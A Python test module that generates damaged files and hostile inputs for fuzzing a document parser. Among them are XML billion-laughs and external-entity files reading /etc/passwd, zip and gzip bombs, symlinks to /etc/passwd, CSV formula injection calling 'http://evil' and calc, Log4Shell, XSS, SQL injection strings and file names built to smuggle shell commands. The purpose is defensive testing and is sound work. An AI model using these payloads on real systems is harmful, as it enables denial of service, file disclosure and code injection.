"""Hostile and broken inputs, made anew each time and the same each time.

Three kinds: sound files of every format, damaged (cut, bytes turned, pieces taken out or doubled); files built to harm a
reader; texts and names built to harm what is written from them. What once found a fault is in `FOUND` for good.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from samples import BODY, TEXT, docx, letter, page, pdf, record, samples, tar, warc, zipped

# --- damaged files -------------------------------------------------------------------------------------


def damaged(each: int) -> Iterator[tuple[str, bytes]]:
    """`each` damaged files of every format."""
    for name, data in samples().items():
        chance = random.Random(name)
        stem, _, suffix = name.partition(".")
        for number in range(each):
            way = _WAYS[number % len(_WAYS)]
            yield f"{stem}-{number:03}-{way.__name__}.{suffix}", way(data, chance)


def cut(data: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(len(data))]


def beheaded(data: bytes, chance: random.Random) -> bytes:
    return data[chance.randrange(1, min(len(data), 400)) :]


def bits_turned(data: bytes, chance: random.Random) -> bytes:
    out = bytearray(data)
    for _ in range(chance.choice([1, 1, 3, 10, 50])):
        out[chance.randrange(len(out))] ^= 1 << chance.randrange(8)
    return bytes(out)


def bytes_changed(data: bytes, chance: random.Random) -> bytes:
    out = bytearray(data)
    for _ in range(chance.choice([1, 4, 20])):
        out[chance.randrange(len(out))] = chance.choice([0, 0xFF, 0x7F, 0x3C, 0x22, chance.randrange(256)])
    return bytes(out)


def piece_lost(data: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(len(data))
    return data[:at] + data[at + chance.choice([1, 7, 100]) :]


def piece_doubled(data: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(len(data))
    return data[:at] + data[at : at + 200] * chance.choice([2, 50]) + data[at:]


def noise_inside(data: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(len(data))
    return data[:at] + chance.randbytes(chance.choice([1, 16, 500])) + data[at:]


def numbers_changed(data: bytes, chance: random.Random) -> bytes:
    """Decimal numbers become others: lengths, offsets and counts lie."""
    digits = [at for at, byte in enumerate(data) if 0x30 <= byte <= 0x39]
    out = bytearray(data)
    for at in chance.sample(digits, min(len(digits), 5)):
        out[at] = chance.randrange(0x30, 0x3A)
    return bytes(out)


def markup_mixed(data: bytes, chance: random.Random) -> bytes:
    """Brackets and quotes change places."""
    marks = [at for at, byte in enumerate(data) if byte in b"<>\"'&;/={}[](),"]
    out = bytearray(data)
    for at in chance.sample(marks, min(len(marks), 8)):
        out[at] = chance.choice(b"<>\"'&;/={}[](),")
    return bytes(out)


def spliced(data: bytes, chance: random.Random) -> bytes:
    other = chance.choice(list(samples().values()))
    return data[: chance.randrange(len(data))] + other[chance.randrange(len(other)) :]


_WAYS = (
    cut, beheaded, bits_turned, bytes_changed, piece_lost, piece_doubled, noise_inside, numbers_changed, markup_mixed, spliced,
)  # fmt: skip

# --- files built to harm -------------------------------------------------------------------------------

_MEGA = 1_000_000


def _laughs(levels: int, root: str, inside: str) -> bytes:
    """The billion laughs: entities of entities."""
    entities = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entities}]>{inside.replace("LAUGH", f"&l{levels - 1};")}'.encode()


_ITEM = "<rss><channel><item><description>LAUGH</description></item></channel></rss>"
_OUTSIDE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _ITEM.replace("LAUGH", "&x;")


def _zip_bomb(megabytes: int) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("a.txt", "w", force_zip64=True) as member,
    ):
        for _ in range(megabytes):
            member.write(b"a" * _MEGA)
    return out.getvalue()


def _gzip_bomb(megabytes: int) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as packed:
        for _ in range(megabytes):
            packed.write(b"\0" * _MEGA)
    return out.getvalue()


def _nested(levels: int, pack: object, data: bytes = b"text") -> bytes:
    for _ in range(levels):
        data = pack(data)  # type: ignore[operator]
    return data


def _overlapping_zip() -> bytes:
    """Two hundred names for one member: what a ratio of one file does not show."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"a" * (5 * _MEGA))
        info = archive.infolist()[0]
        for number in range(200):
            twin = zipfile.ZipInfo(f"b{number}.txt")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "flag_bits"):
                setattr(twin, name, getattr(info, name))
            archive.filelist.append(twin)
    return out.getvalue()


def _linked_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _pdf_of(*objects: bytes) -> bytes:
    body = b"%PDF-1.4\n" + b"".join(b"%d 0 obj %s endobj\n" % (n, data) for n, data in enumerate(objects, start=1))
    return body + b"trailer << /Root 1 0 R /Size %d >>\n%%%%EOF" % (len(objects) + 1)


def _flate(data: bytes) -> bytes:
    packed = zlib.compress(data, 9)
    return b"<< /Length %d /Filter /FlateDecode >> stream\n%s\nendstream" % (len(packed), packed)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def built(*, large: bool) -> Iterator[tuple[str, bytes]]:
    """Files that aim at a weakness of a reader; the large ones only where asked for.

    What is deep is always as deep: it aims at the stack. What is only long is shorter where no large ones are wanted.
    """
    deep = 100_000
    long = 5 if large else 1
    yield "deep.jsonl", b"[" * deep + b"]" * deep + b"\n" + b'{"a":' * deep + b"1" + b"}" * deep + b"\n"
    yield "deep.json", b'[{"text":' * deep
    yield "digits.jsonl", b'{"text": ' + b"9" * 5000 + b"}\n" + b'{"id": ' + b"9" * 5000 + b', "text": "a"}\n'
    yield "nan.jsonl", b'{"text": NaN}\n{"text": "a", "id": Infinity}\n{"text": "b", "id": 1e999}\n'
    yield "twice.jsonl", b'{"text": "a", "text": "b"}\n{"id": 1, "text": "c"}\n{"id": 1, "text": "d"}\n'
    yield "halves.jsonl", b'{"text": "\\ud83d \\ude00", "title": "\\udcff", "url": "http://\\ud800/"}\n'
    yield "binary.txt", random.Random(1).randbytes(50_000)
    yield "elf.txt", b"\x7fELF\x02\x01\x01\0" + bytes(500)
    yield "zeros.txt", bytes(_MEGA)
    yield "high.txt", bytes(range(128, 256)) * 500
    yield "invalid.txt", b"\xc3\x28\xa0\xa1\xe2\x28\xa1" * 300 + TEXT.encode()
    yield "overlong.txt", b"\xc0\xaf\xe0\x80\xaf\xed\xa0\x80" * 50 + TEXT.encode()
    yield "utf32.txt", TEXT.encode("utf-32")
    yield "utf7.txt", TEXT.encode("utf-7")
    yield "odd-utf16.txt", TEXT.encode("utf-16")[:-1]
    yield "lonely-utf16.txt", b"\xff\xfe" + b"\x00\xd8" * 500
    yield "marks.txt", "\ufeff\u202e\u2066\u200f\u0000".join(TEXT).encode()
    yield "combining.txt", ("и" + "\u0306" * 50_000).encode()
    yield "one-word.txt", "а".encode() * 300_000
    yield "one-sentence.txt", "посол встретился с министром и ".encode() * 3000
    yield "dots.txt", b"." * 200_000
    yield "lines.txt", b"\n" * 300_000
    yield "quotes.txt", "«".encode() * 50_000 + "»".encode() * 50_000
    yield "brackets.txt", b"(" * 100_000
    yield "spaces.txt", b" \t" * 200_000 + TEXT.encode()
    yield "dateline.txt", ("А" + "а-" * 100_000 + " 12 марта").encode()
    yield "capitals.txt", (TEXT.upper() + "\n").encode() * 50
    yield "long.jsonl", b'{"text": "' + b"a" * (3 * _MEGA) + b'"}\n' + json.dumps(record()).encode()
    for n in (4, 5, 9):
        yield f"laughs-{n}.xml", _laughs(n, "rss", _ITEM)
        yield f"laughs-{n}.html", _laughs(n, "html", "<html><body><p>LAUGH</p></body></html>")
    yield (
        "quadratic.xml",
        f'<!DOCTYPE rss [<!ENTITY a "{"a" * 100_000}">]>{_ITEM.replace("LAUGH", "&a;" * 10_000)}'.encode(),
    )
    yield "outside.xml", _OUTSIDE.encode()
    yield "outside-utf16.xml", _OUTSIDE.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")
    yield (
        "outside-utf7.xml",
        b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE r [+ADwAIQ-ENTITY x SYSTEM "file:///etc/passwd">]><rss/>',
    )
    yield "parameter.xml", b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x"> %x;]><rss/>'
    yield (
        "dtd.xml",
        b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss.dtd"><rss><channel/></rss>',
    )
    yield (
        "include.xml",
        b'<rss xmlns:x="http://www.w3.org/2001/XInclude"><channel><item><description><x:include href="/etc/passwd" parse="text"/></description></item></channel></rss>',
    )
    yield (
        "style.xml",
        b'<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?><rss><channel><item><description>a</description></item></channel></rss>',
    )
    yield "deep.xml", b"<rss><channel><item><description>" + b"<a>" * 50_000
    yield "attributes.xml", b"<rss " + b" ".join(b'a%d="1"' % n for n in range(20_000)) + b"/>"
    yield "namespaces.xml", b"<rss " + b" ".join(b'xmlns:a%d="x"' % n for n in range(5_000)) + b"><a1:item/></rss>"
    yield "items.xml", b"<rss><channel>" + b"<item><title>a</title></item>" * 3_000 + b"</channel></rss>"
    for tag in ("div", "b", "table><tr><td", "font", "ul><li", "blockquote", "svg", "math", "form", "select><option"):
        yield f"deep-{tag[:3]}.html", b"<!DOCTYPE html><html><body>" + f"<{tag}>".encode() * 50_000 + TEXT.encode()
    yield "unclosed.html", b"<!DOCTYPE html>" + b"<p " * 50_000
    yield "attribute.html", b"<!DOCTYPE html><html><body><p title='" + b"a" * (long * _MEGA) + b"'>" + TEXT.encode()
    yield "attributes.html", b"<!DOCTYPE html><html><body><p " + b"a='1' " * 100_000 + b">" + TEXT.encode()
    yield "comment.html", b"<!DOCTYPE html><!--" + b"-" * _MEGA
    yield "comments.html", b"<!-- a -->" * 50_000 + page()
    yield "entities.html", b"<!DOCTYPE html><p>" + b"&amp" * 200_000 + b"&#1114112;&#xD800;&#0;&#x202e;"
    yield "charset.html", b"<!DOCTYPE html><meta charset='" + b"u" * 3000 + b"'>" + page()
    for charset in (
        "utf-7",
        "idna",
        "punycode",
        "unicode_escape",
        "rot13",
        "zlib",
        "hex",
        "x-user-defined",
        "../../etc",
        "utf-16",
        "mbcs",
    ):
        yield f"charset-{charset.strip('./')[:8]}.html", page(charset=charset)
    yield "links.html", b"<!DOCTYPE html><html><body>" + b"<a href='/x'>x</a> " * (10_000 * long)
    yield "table.html", b"<!DOCTYPE html><table>" + b"<tr><td>a" * (10_000 * long)
    yield "scripts.html", page(more="<script>" + "alert(1);" * 1000 + "</script>" * 3)
    yield "json-ld.html", page(more='<script type="application/ld+json">' + "[" * 50_000 + "</script>")
    yield "dates.html", page().replace(b"2026-03-12T10:00:00+05:00", b"9" * 100_000)
    yield "canonical.html", page().replace(b"https://example.org/news/1", b"javascript:alert(1)//https://[")
    yield "title.html", page().replace(b"<title>", b"<title>" + b"<script>" * 10_000)
    yield "no-text.html", b"<!DOCTYPE html><html></html>"
    yield (
        "formula.csv",
        b'text,title,url\n=HYPERLINK("http://evil"),+1,-1\n@SUM(1),"\t=1","\r=2"\n'
        + f"{TEXT},=cmd|' /C calc'!A0,x\n".encode(),
    )
    yield "quote.csv", b'text\n"' + b"a" * _MEGA
    yield "fields.csv", b"text" + b",a" * 20_000 + b"\n" + b"b" + b"," * 20_000 + b"\n"
    yield "zeros.csv", b"text,url\na\0b,c\n" + bytes(100)
    yield "many.csv", b"text\n" + b"a\n" * 3_000
    yield "widths.csv", b"text,url\na\nb,c,d,e\n\n,\n"
    yield "sep.csv", b"sep=;\ntext;url\nabc;def\n"
    yield "field.csv", b"text\n" + b"a" * 200_000 + b"\n"
    for n in (1, 20):
        yield f"bomb-{n}.gz", _gzip_bomb(n)
        yield f"bomb-{n}.txt.bz2", bz2.compress(bytes(n * _MEGA))
    yield "bomb.txt.gz", _gzip_bomb(50)
    yield "bomb.jsonl.gz", _gzip_bomb(50)
    yield "bomb.zip", _zip_bomb(60)
    yield "bomb.docx", zipped({"word/document.xml": b"<w:document xmlns:w='w'>" + b"a" * (30 * _MEGA)})
    yield "bomb.odt", zipped({"content.xml": b" " * (30 * _MEGA)})
    yield "bomb.xlsx", zipped({"xl/sharedStrings.xml": b" " * (30 * _MEGA), "xl/worksheets/sheet1.xml": b"<a/>"})
    yield "overlap.zip", _overlapping_zip()
    yield "nested.zip", _nested(20, lambda data: zipped({"a.zip": data, "a.txt": b"a"}))
    yield "nested.gz", _nested(200, lambda data: gzip.compress(data, mtime=0))
    yield "nested.tar", _nested(20, lambda data: tar({"a.tar": data}))
    yield (
        "nested.eml",
        _nested(
            20,
            lambda data: (
                b'From: a\nContent-Type: application/x; name="a.eml"\nContent-Disposition: attachment; filename="a.eml"\n\n'
                + data
            ),
        ),
    )
    yield (
        "parts.eml",
        b"From: a\n"
        + b"".join(b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (n, n) for n in range(2_000)),
    )
    yield "headers.eml", b"From: a\n" + b"X: y\n" * 50_000 + b"\n" + TEXT.encode()
    yield (
        "header.eml",
        b"Subject: "
        + b"=?utf-8?b?0LA=?= " * (4_000 * long)
        + b"\nFrom: "
        + b"a," * (10_000 * long)
        + b"\n\n"
        + TEXT.encode(),
    )
    yield "base64.eml", b"From: a\nContent-Transfer-Encoding: base64\n\n" + b"=" * 50_000
    yield "charset.eml", b'From: a\nContent-Type: text/plain; charset="\\"\n\n' + TEXT.encode()
    yield "date.eml", b"From: a\nDate: " + b"1" * 5_000 + b"\n\n" + TEXT.encode()
    yield "address.eml", b"From: " + b"(" * 10_000 + b"\nSubject: a\n\n" + TEXT.encode()
    yield (
        "attached.eml",
        letter().replace(b"Subject:", b'Content-Disposition: attachment; filename="../../../etc/passwd"\nSubject:', 1),
    )
    yield "members.zip", zipped({f"{n}.txt": b"a" for n in range(3_000)})
    yield "names.zip", zipped({name: BODY.encode() for name in _NAMES})
    yield "names.tar", tar({name[:90]: BODY.encode() for name in _NAMES if "\0" not in name and "\ud800" not in name})
    yield "linked.zip", _linked_zip()
    yield "tail.zip", b"MZ" * 500 + zipped({"a.txt": BODY.encode()})
    yield "hollow.zip", zipped({})
    yield "folder.zip", zipped({"a/": b"", "a/b/": b""})
    yield "lies.warc", warc().replace(b"Content-Length: ", b"Content-Length: 9")
    yield "short.warc", warc().replace(b"Content-Length: ", b"Content-Length: 0\r\nX: ", 1) + warc()
    yield "minus.warc", warc().replace(b"Content-Length: ", b"Content-Length: -", 1)
    yield (
        "chunks.warc",
        warc(b"fffffffff\r\n" + page(), headers="Content-Type: text/html\r\nTransfer-Encoding: chunked\r\n"),
    )
    yield (
        "chunk-minus.warc",
        warc(b"-5\r\n" + page(), headers="Content-Type: text/html\r\nTransfer-Encoding: chunked\r\n"),
    )
    yield (
        "chunk-many.warc",
        warc(b"1\r\na\r\n" * 100_000, headers="Content-Type: text/html\r\nTransfer-Encoding: chunked\r\n"),
    )
    yield "packed.warc", warc(_gzip_bomb(50), headers="Content-Type: text/html\r\nContent-Encoding: gzip\r\n")
    yield "brotli.warc", warc(bytes(range(200, 255)), headers="Content-Type: text/html\r\nContent-Encoding: br\r\n")
    yield "status.warc", warc(status=99999)
    yield "target.warc", warc(url='http://a/\x00<>"{}|\\^`\u202e ' + "x" * 5000)
    yield "header.warc", b"WARC/1.0\r\n" + b"A: b\r\n" * 100_000
    yield "line.warc", b"WARC/1.0\r\nContent-Length: " + b"1" * 100_000
    yield "blank.warc", b"\r\n" * 100_000
    yield "pages.pdf", _pdf_of(_CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count %d >>" % (200_000 * long))
    yield (
        "many.pdf",
        _pdf_of(
            _CATALOG,
            b"<< /Type /Pages /Count 5000 /Kids [" + b"3 0 R " * 5000 + b"] >>",
            b"<< /Type /Page /Parent 2 0 R >>",
        ),
    )
    yield (
        "bomb.pdf",
        pdf().replace(b"4 0 obj", b"9 0 obj", 1) + b"\n4 0 obj " + _flate(b"q " * (4 * long * _MEGA)) + b" endobj\n",
    )
    yield "deep.pdf", _pdf_of(b"[" * 100_000 + b"]" * 100_000)
    yield "refs.pdf", _pdf_of(_CATALOG, b"<< /Type /Pages /Kids 3 0 R /Count 4 0 R >>", b"4 0 R", b"3 0 R")
    yield (
        "script.pdf",
        _pdf_of(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(true);) >> >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
        ),
    )
    yield "deep.rtf", b"{\\rtf1 " + b"{" * 100_000 + b"a"
    yield "numbers.rtf", b"{\\rtf1 \\u99999999 \\u-1 \\'zz \\bin999999999 \\uc99999 " + b"\\'" * 50_000 + b"}"
    yield "words.rtf", b"{\\rtf1 " + b"\\" + b"a" * 500_000 + b"}"
    yield "part.docx", zipped({"word/document.xml": _laughs(5, "w", "<w>LAUGH</w>")})
    yield "deep.docx", zipped({"word/document.xml": b"<w:document xmlns:w='w'>" + b"<w:p>" * 100_000})
    yield "missing.docx", zipped({"word/other.xml": b"<a/>"})
    yield (
        "cells.xlsx",
        zipped(
            {
                "xl/worksheets/sheet1.xml": b"<w><row><c r='XFD1' t='inlineStr'><is><t>text</t></is></c></row><row><c r='ZZZZZZZZ9' t='s'><v>99999999999</v></c></row></w>"
            }
        ),
    )
    yield (
        "strings.xlsx",
        zipped(
            {"xl/sharedStrings.xml": b"<sst/>", "xl/worksheets/sheet1.xml": b"<w><row><c t='s'><v>-1</v></c></row></w>"}
        ),
    )
    yield "magic.parquet", b"PAR1" + b"\xff" * 500 + b"PAR1"
    yield "footer.parquet", b"PAR1" + struct.pack("<I", 0x7FFFFFFF) + b"PAR1"
    yield (
        "location.mhtml",
        b"MIME-Version: 1.0\nContent-Type: text/html\nContent-Location: file:///etc/passwd\n\n" + page(),
    )
    yield "empty.txt", b""
    for suffix in (
        "jsonl",
        "json",
        "html",
        "xml",
        "pdf",
        "docx",
        "odt",
        "rtf",
        "eml",
        "mbox",
        "csv",
        "xlsx",
        "parquet",
        "warc",
        "zip",
        "tar",
        "gz",
        "mhtml",
    ):
        yield f"empty.{suffix}", b""
        yield f"space.{suffix}", b" \n"
        yield f"byte.{suffix}", b"\x80"
        yield f"text.{suffix}", TEXT.encode()
    if large:
        yield "line.jsonl", b'{"text": "' + b"a" * (100 * _MEGA) + b'"}\n' + json.dumps(record()).encode()
        yield "line.txt", b"a" * (100 * _MEGA)
        yield "line.csv", b"text\n" + b"a" * (100 * _MEGA)
        yield "line.html", b"<!DOCTYPE html><p>" + b"a" * (19 * _MEGA)
        yield "bomb-large.zip", _zip_bomb(3_000)
        yield "bomb-large.jsonl.gz", _gzip_bomb(3_000)
        yield "deep.html", b"<!DOCTYPE html>" + b"<div>" * 3_000_000
        yield "two-million.txt", TEXT.encode() * 7_000


# --- names and texts built to harm what is written -----------------------------------------------------

_NAMES = (
    "../../../etc/passwd.txt", "/etc/passwd.txt", "..\\..\\windows.txt", "C:\\windows\\a.txt", "a/../../b.txt", "./././a.txt",
    "con.txt", "nul.txt", "a" * 300 + ".txt", "\u202etxt.exe.txt", "новости.txt", "新闻.txt", "أخبار.txt", "ខ្មែរ.txt", "😀.txt",
    "a\nb.txt", "a\x1b[31mred.txt", "-rf.txt", "--help.txt", "$(id).txt", "`id`.txt", "a;b|c&d.txt", "%2e%2e%2f.txt", "'.txt",
    '"<img src=x onerror=alert(1)>.txt', ".txt", "..txt", "a.txt.", "a .txt ", "\u0456\u0307.txt", "a#1.txt", "a?b*[c].txt",
)  # fmt: skip

PAYLOADS = (
    "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "href='javascript:alert(1)'",
    '"><iframe srcdoc="<script>alert(1)</script>">', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{% import os %}", "${jndi:ldap://x/a}", "=HYPERLINK(\"http://x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "\r=1+1", "＝1+1", "; rm -rf /", "`id`", "$(id)", "../../etc/passwd", "\x00\x01\x02\x1b[31m", "\x1b]0;title\x07",
    "\u202e\u2066\u2069\u200f", "\u200b\u200d\ufeff", "\ud83d", "\udcff\udc00", "\ufffe\uffff\U0010ffff", "e\u0301" * 50, "\u0000",
    'a"b\'c\\d', '"""', "'''", "\\", "\\u0022", "\\\"", "\n\r\t", "\u2028\u2029\x85", "<>\"{}|\\^`", "> . <x> <y> <z> .", "> ; a <x",
    "http://a b/", "http://a/<b>", 'http://a/"b"', "http://a/\\b", "http://a/{b}|^`", "http://a/\u202e", "http://[::1", "http://a:b@c/",
    "http://%zz/", "HTTP://A/é?ü#ж", "urn:x", "//x", "http://", "https://" + "a" * 5000, "http://a/\ud800", "http://\u0430.рф/\u0301",
    "a@b-c-d-e", "en-", "-", "x" * 4000, "ru-" + "a" * 50, "*", "und", "\u0661\u0662\u0663", "2026-02-30", "0000-00-00", "9999-12-31",
    "10000-01-01", "2026-03-12T99:99", "-2026-01-01", "١٢-٠٣-٢٠٢٦", "[link](javascript:alert(1))", "| a | b |\n|---|", "<!--", "]]>",
    "<![CDATA[x]]>", "&amp;&#0;&lt;", "%s%n%x", "{0}{x.__class__}", "SELECT * WHERE { ?s ?p ?o }", "' OR 1=1 --", "@prefix x: <y> .", "_:b0",
)  # fmt: skip
_FIELDS = ("id", "url", "lang", "published", "title", "publisher", "text")


def harmful_lines() -> Iterator[bytes]:
    """Lines of JSON: each payload in each field, and in the middle of an article."""
    for number, payload in enumerate(PAYLOADS):
        for name in _FIELDS:
            fields = {**record(), "id": f"{number}-{name}", "text": f"{BODY} {number} {name}"}
            yield json.dumps({**fields, name: payload}).encode() + b"\n"
        middle = TEXT.replace("Ержан Тестов", f"Ержан {payload} Тестов").replace("Риге", payload)
        yield json.dumps({"text": f"{middle} {number}", "title": payload, "id": f"m{number}"}).encode() + b"\n"
        named = TEXT.replace("Латвии", f"«{payload}»").replace("торговлю", f"{payload} торговлю")
        yield json.dumps({"text": f"{named} {number}", "publisher": payload, "id": f"n{number}"}).encode() + b"\n"


#: Inputs that found a fault once, and what it was.
FOUND: tuple[tuple[str, bytes], ...] = (
    ("number.rtf", b"{\\rtf1 \\u99999999 a}"),  # a number that is no character
    ("page.pdf", _pdf_of(_CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 3 >>")),  # a page that cannot be loaded
    ("header.eml", b"From: a\nSubject: =?utf-8?b?0L=?=\n\n" + TEXT.encode()),  # a broken encoded word
    ("charset.eml", b"From: a\nSubject: =?utf\xb08?b?0L8=?=\n\n" + TEXT.encode()),  # a name of an encoding beyond ASCII
    ("offset.docx", docx()[100:]),  # members before the beginning of the file
    ("utf8.parquet", samples()["table.parquet"].replace("Встреча".encode(), b"\xff" * 14)),  # text that is none
    ("letter.mbox", b"From a\n"),  # gave nothing at all, and stood in no account
    ("kind.warc", warc().replace(b"WARC-Type: response", b"WARC-Type: resqonse")),  # the same
    ("folder.zip", zipped({"a/": b""})),  # the same
    ("declared.xml", b"<!DOCTYPE r [<!ENTITY % x SYSTEM 'http://127.0.0.1:9/x'> %x;]><rss/>"),  # was taken for a page
    ("inner.zip", zipped({"a.zip": zipped({"a.txt": TEXT.encode()})})),  # a ZIP in a ZIP was called damaged
    ("lines.jsonl", b'{"text": ["a\\nb\\u001b[31m"]}\n'),  # a reason of two lines, in red
    ("capitals.txt", f"{TEXT} Представители {'А' * 1200}» (АА) встретились.".encode()),  # an abbreviation for ever
)


def write_hostile(folder: Path, *, each: int, large: bool) -> int:
    """Write all of them below `folder`; how many inputs there are (a line of JSON is one)."""
    count = 0
    for part, files in (("damaged", damaged(each)), ("built", built(large=large)), ("found", iter(FOUND))):
        (folder / part).mkdir(parents=True)
        for name, data in files:
            (folder / part / name).write_bytes(data)
            count += 1
    (folder / "names").mkdir()
    for number, name in enumerate(_NAMES):
        safe = name.replace("/", "∕").replace("\0", "")[:120]
        (folder / "names" / f"{number}{safe}").write_text(f"{BODY} {number}", "utf-8")
        count += 1
    (folder / "names" / "link.txt").symlink_to("/etc/passwd")
    (folder / "names" / "loop.txt").symlink_to("loop.txt")
    (folder / "names" / "circle").symlink_to(folder, target_is_directory=True)
    lines = list(harmful_lines())
    (folder / "harmful.jsonl").write_bytes(b"".join(lines))
    return count + 3 + len(lines)
